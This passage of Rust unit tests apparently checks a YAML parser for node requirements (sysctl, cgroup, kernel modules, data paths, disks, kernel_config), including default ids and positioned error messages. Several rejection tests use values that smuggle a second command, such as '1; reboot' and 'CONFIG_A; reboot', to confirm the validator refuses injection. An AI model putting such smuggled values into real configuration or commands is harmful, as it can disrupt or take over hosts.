                name: "net.ipv4.ip_forward".into(),
                value: "1".into(),
                persist: true
            }
        );
        let r = ok("sysctl: {name: net/ipv4/ip_local_port_range, value: \"1024\t65000\"}");
        assert_eq!(r.id, "sysctl.net.ipv4.ip_local_port_range");
        let Check::Sysctl { value, persist, .. } = &r.check else {
            panic!()
        };
        assert_eq!((value.as_str(), *persist), ("1024 65000", false));
        let r = ok("cgroup: {version: 2, controllers: [cpu, memory, pids]}");
        assert_eq!(r.id, "cgroup");
        assert_eq!(
            ok("cgroup: {}").check,
            Check::Cgroup {
                version: None,
                controllers: vec![]
            }
        );
        let r = ok("swap: {enabled: false}");
        assert_eq!(
            (r.id.as_str(), &r.check),
            ("swap", &Check::Swap { enabled: false })
        );
        let r = ok("module_parameter: {module: nvme-core, parameter: multipath, value: \"N\"}");
        assert_eq!(r.id, "kmod.nvme_core.multipath");
        let r = ok("module_version: {module: drbd, min: \"9.0.0\"}");
        assert_eq!(r.id, "kmod.drbd.version");
        assert_eq!(
            ok("module_version: {module: drbd, min: 9}").check,
            Check::ModuleVersion {
                module: "drbd".into(),
                min: "9".into()
            }
        );
        // JSON shows them as the schema says.
        let json = serde_json::to_value(&ok("cgroup: {version: 2}").check).unwrap();
        assert_eq!(
            json,
            serde_json::json!({"cgroup": {"version": 2, "controllers": []}})
        );
    }

    #[test]
    fn bad_values_are_refused_where_they_are() {
        refused(
            "cgroup: {version: 3}",
            "3:5",
            "cgroup version 3 must be 1 or 2",
        );
        refused("cgroup: {version: \"2\"}", "3:23", "invalid type");
        refused(
            "cgroup: {controllers: [\"cpu;reboot\"]}",
            "3:5",
            "cgroup controller",
        );
        refused(
            "sysctl: {name: net..ip_forward, value: 1}",
            "3:5",
            "empty component",
        );
        refused(
            "sysctl: {name: \"net.*.x\", value: 1}",
            "3:5",
            "sysctl name",
        );
        refused(
            "sysctl: {name: a.b, value: \"1; reboot\"}",
            "3:5",
            "sysctl value",
        );
        refused("sysctl: {name: a.b}", "3:13", "missing field `value`");
        refused(
            "sysctl: {name: a.b, value: 1, persit: true}",
            "3:35",
            "persit",
        );
        refused(
            "module_parameter: {module: nvme_core, parameter: multipath, value: false}",
            "3:72",
            "YAML reads true and false",
        );
        refused(
            "module_parameter: {module: \"x y\", parameter: p, value: \"1\"}",
            "3:5",
            "kernel module",
        );
        refused(
            "module_version: {module: drbd, min: 9.10}",
            "3:41",
            "quote this value",
        );
        refused(
            "module_version: {module: drbd, min: latest}",
            "3:5",
            "is not a version",
        );
        refused(
            "swap: {enabled: false}\n    sysctl: {name: a.b, value: 1}",
            "3:5",
            "exactly one kind",
        );
    }
}

/// The node-side keys of issue 13 (`service` sockets, `cri_socket`, `data_path`,
/// `raw_disks`): defaults, default ids, and each mistake refused where it is.
#[cfg(test)]
mod node_family_tests {
    use super::*;

    fn checks(text: &str) -> Vec<Requirement> {
        parse(text, "my.yaml").unwrap().requirements.0
    }

    fn refused(text: &str) -> String {
        parse(text, "my.yaml").unwrap_err().to_string()
    }

    #[test]
    fn keys_as_agreed_with_their_defaults_and_ids() {
        let r = checks(
            "name: x\nrequirements:\n  - cri_socket: {}\n  - cri_socket: {paths: [/run/k3s/containerd/containerd.sock]}\n    id: cri.k3s\n  - data_path: {path: /var/lib/longhorn, filesystems: [ext4, xfs], min_free_gib: 10, forbid_options: [noexec]}\n  - data_path: {path: /var/lib/rook}\n  - raw_disks: {min_count: 1, min_size_gib: 10}\n  - service: {name: multipathd, socket: \"@/org/kernel/linux/storage/multipathd\"}\n",
        );
        let ids: Vec<&str> = r.iter().map(|r| r.id.as_str()).collect();
        assert_eq!(
            ids,
            [
                "cri.socket",
                "cri.k3s",
                "path./var/lib/longhorn",
                "path./var/lib/rook",
                "disk.raw",
                "svc.multipathd"
            ]
        );
        assert_eq!(r[0].check, Check::CriSocket { paths: vec![] });
        let Check::DataPath(d) = &r[3].check else {
            panic!("{:?}", r[3].check)
        };
        assert!(d.filesystems.is_empty() && d.min_free_gib.is_none());
        assert_eq!(r[2].check.subject().kind(), "data_path");
        assert_eq!(
            r[2].check.subject().name().as_deref(),
            Some("/var/lib/longhorn")
        );
        let Check::RawDisks(d) = &r[4].check else {
            panic!()
        };
        assert_eq!((d.min_count, d.min_size_gib), (1, 10));
        let r = checks("name: x\nrequirements:\n  - raw_disks: {}\n");
        let Check::RawDisks(d) = &r[0].check else {
            panic!()
        };
        assert_eq!(
            (d.min_count, d.min_size_gib),
            (1, 0),
            "one disk of any size"
        );
    }

    #[test]
    fn mistakes_are_refused_with_their_place() {
        for (text, what) in [
            (
                "name: x\nrequirements:\n  - data_path: {path: var/lib/longhorn}\n",
                "must be absolute",
            ),
            (
                "name: x\nrequirements:\n  - data_path: {path: /x, filesystems: [\"ext4; reboot\"]}\n",
                "filesystem type",
            ),
            (
                "name: x\nrequirements:\n  - data_path: {path: /x, forbid_options: [\"no exec\"]}\n",
                "mount option",
            ),
            (
                "name: x\nrequirements:\n  - data_path: {path: /x, min_free: 3}\n",
                "min_free",
            ),
            (
                "name: x\nrequirements:\n  - raw_disks: {min_count: 0}\n",
                "at least 1",
            ),
            (
                "name: x\nrequirements:\n  - raw_disks: {include: [\"loop*\"]}\n",
                "device prefix",
            ),
            (
                "name: x\nrequirements:\n  - cri_socket: {paths: [containerd.sock]}\n",
                "must be absolute",
            ),
            (
                "name: x\nrequirements:\n  - service: {name: x, socket: \"@\"}\n",
                "abstract name",
            ),
        ] {
            let e = refused(text);
            assert!(e.starts_with("my.yaml:3:"), "{text}: {e}");
            assert!(e.contains(what), "{text}: {e}");
        }
    }
}

/// `kernel_config`: its shape, default id, and each mistake refused where it is.
#[cfg(test)]
mod kernel_config_tests {
    use super::kernel_side_tests::{ok, refused};
    use super::*;

    #[test]
    fn shape_default_id_and_json() {
        let r = ok(
            "kernel_config: {require: [CONFIG_NET_NS, \"CONFIG_NETFILTER_XT_TARGET_REDIRECT|CONFIG_IP_NF_TARGET_REDIRECT\"], forbid: [CONFIG_X]}",
        );
        assert_eq!(r.id, "kernel.config");
        assert_eq!(r.level, Level::Required);
        assert_eq!(
            r.check,
            Check::KernelConfig {
                require: vec![
                    "CONFIG_NET_NS".into(),
                    "CONFIG_NETFILTER_XT_TARGET_REDIRECT|CONFIG_IP_NF_TARGET_REDIRECT".into()
                ],
                forbid: vec!["CONFIG_X".into()],
            }
        );
        assert_eq!(r.check.subject().kind(), "kernel_config");
        assert_eq!(r.check.subject().name(), None);
        let r = ok("kernel_config: {forbid: [CONFIG_A]}\n    id: kernel.config.forbidden");
        assert_eq!(r.id, "kernel.config.forbidden");
        let r = ok(
            "kernel_config: {require: [CONFIG_SECCOMP]}\n    level: recommended\n    id: kernel.config.optional",
        );
        assert_eq!(
            (r.id.as_str(), r.level),
            ("kernel.config.optional", Level::Recommended)
        );
        assert_eq!(
            serde_json::to_value(&r.check).unwrap(),
            serde_json::json!({"kernel_config": {"require": ["CONFIG_SECCOMP"], "forbid": []}})
        );
    }

    #[test]
    fn mistakes_are_refused_where_they_are() {
        refused("kernel_config: {}", "3:5", "at least one option");
        refused("kernel_config: {require: []}", "3:5", "at least one option");
        refused(
            "kernel_config: {require: [NET_NS]}",
            "3:5",
            "must be CONFIG_ followed by upper-case",
        );
        refused(
            "kernel_config: {require: [CONFIG_net_ns]}",
            "3:5",
            "\"CONFIG_net_ns\"",
        );
        refused(
            "kernel_config: {require: [\"CONFIG_A|\"]}",
            "3:5",
            "kernel_config option \"\"",
        );
        refused(
            "kernel_config: {require: [\"CONFIG_A; reboot\"]}",
            "3:5",
            "kernel_config option",
        );
        refused(
            "kernel_config: {forbid: [\"CONFIG_A|CONFIG_B\"]}",
            "3:5",
            "only go in `require`",
        );
        refused(
            "kernel_config: {require: [CONFIG_A], forbid: [CONFIG_A]}",
            "3:5",
            "both required and forbidden",
        );
        refused(
            "kernel_config: {require: [CONFIG_A, \"CONFIG_B|CONFIG_A\"]}",
            "3:5",
            "CONFIG_A is listed twice",
        );
        refused(
            "kernel_config: {forbid: [CONFIG_A, CONFIG_A]}",
            "3:5",
            "listed twice",
        );
        refused(
            "kernel_config: {required: [CONFIG_A]}",
            "3:21",
            "unknown field `required`",
        );
        refused("kernel_config: {require: CONFIG_A}", "3:30", "invalid type");
        refused(
            "kernel_config: {require: [CONFIG_A]}\n    swap: {enabled: false}",
            "3:5",
            "exactly one kind",
        );
        let many: Vec<String> = (0..=MAX_KERNEL_CONFIG_ENTRIES)
            .map(|i| format!("CONFIG_O{i}"))
            .collect();
        refused(
            &format!("kernel_config: {{require: [{}]}}", many.join(", ")),
            "3:5",
            "at most 128",
        );
    }
}
